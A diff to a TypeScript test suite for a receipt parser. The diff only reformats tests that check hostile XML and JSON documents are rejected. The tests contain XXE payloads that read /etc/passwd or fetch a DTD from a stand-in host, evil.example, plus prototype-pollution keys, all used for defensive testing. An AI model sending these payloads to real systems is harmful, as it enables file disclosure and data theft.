@@ -41,8 +41,18 @@ describe("hostile receipt documents", () => {
   });
 
   it("external entities (XXE) are refused as 400", () => {
-    reject(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><retailReceipt><cashier>&xxe;</cashier></retailReceipt>`, "application/xml", 400, "INVALID_XML");
-    reject(`<?xml version="1.0"?><!doctype r SYSTEM "http://evil.example/x.dtd"><retailReceipt/>`, "text/xml", 400, "INVALID_XML");
+    reject(
+      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><retailReceipt><cashier>&xxe;</cashier></retailReceipt>`,
+      "application/xml",
+      400,
+      "INVALID_XML",
+    );
+    reject(
+      `<?xml version="1.0"?><!doctype r SYSTEM "http://evil.example/x.dtd"><retailReceipt/>`,
+      "text/xml",
+      400,
+      "INVALID_XML",
+    );
   });
 
   it("undeclared entities are malformed XML (400)", () => {
@@ -67,7 +77,10 @@ describe("hostile receipt documents", () => {
     doc.store.name = "x".repeat(60 * 1024);
     const e = reject(JSON.stringify(doc), "application/json", 422, "VALIDATION_ERROR");
     expect(e.details).to.deep.include({ path: "/store/name", message: "must NOT have more than 200 characters" });
-    const xml = RECEIPT_TYPES[0]!.examples.xml.replace("<cashier>Olena</cashier>", `<cashier>${"y".repeat(60 * 1024)}</cashier>`);
+    const xml = RECEIPT_TYPES[0]!.examples.xml.replace(
+      "<cashier>Olena</cashier>",
+      `<cashier>${"y".repeat(60 * 1024)}</cashier>`,
+    );
     const x = reject(xml, "application/xml", 422);
     expect(x.details?.map((d) => d.path)).to.include("/cashier");
   });
@@ -122,7 +135,12 @@ describe("hostile receipt documents", () => {
   it("prototype keys in documents are reported, never applied", () => {
     const e = reject('{"type":"retail","__proto__":{"polluted":true}}', "application/json", 422);
     expect(e.details?.map((d) => d.path)).to.include("/__proto__");
-    reject("<retailReceipt><__proto__><polluted>1</polluted></__proto__></retailReceipt>", "application/xml", 400, "INVALID_XML");
+    reject(
+      "<retailReceipt><__proto__><polluted>1</polluted></__proto__></retailReceipt>",
+      "application/xml",
+      400,
+      "INVALID_XML",
+    );
     expect(({} as Record<string, unknown>)["polluted"]).to.equal(undefined);
   });
 
